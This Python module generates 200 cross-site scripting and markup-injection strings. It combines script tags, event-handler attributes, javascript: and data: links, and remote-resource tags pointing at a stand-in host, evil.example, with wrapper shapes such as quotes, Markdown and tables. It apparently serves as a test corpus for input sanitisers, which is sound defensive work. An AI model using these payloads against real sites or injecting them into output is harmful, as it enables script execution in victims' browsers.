"""Two hundred ways to run a script or to fetch something, for every place where text comes in."""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"
AWAY = "https://evil.example/x"
SEEDS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mi//xlink:href='javascript:{RUN}'>x",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"[x](javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](JaVaScRiPt&colon;{RUN})",
    f"![x]({AWAY})",
    f"![x](x 'onerror={RUN}')",
    f"<{AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<style>@import '{AWAY}'</style>",
    f"<base href={AWAY}>",
    f"<object data={AWAY}></object>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<template><script>{RUN}</script></template>",
    f"${{{RUN}}}",
)
SHAPES = ("{}", "\"'>{}", "**{}**", "> {}", "`{}`", "| a |\n|-|\n| {} |", "- {}", "404.40 万元[1]{}")
PAYLOADS = tuple(shape.replace("{}", seed) for shape, seed in product(SHAPES, SEEDS))
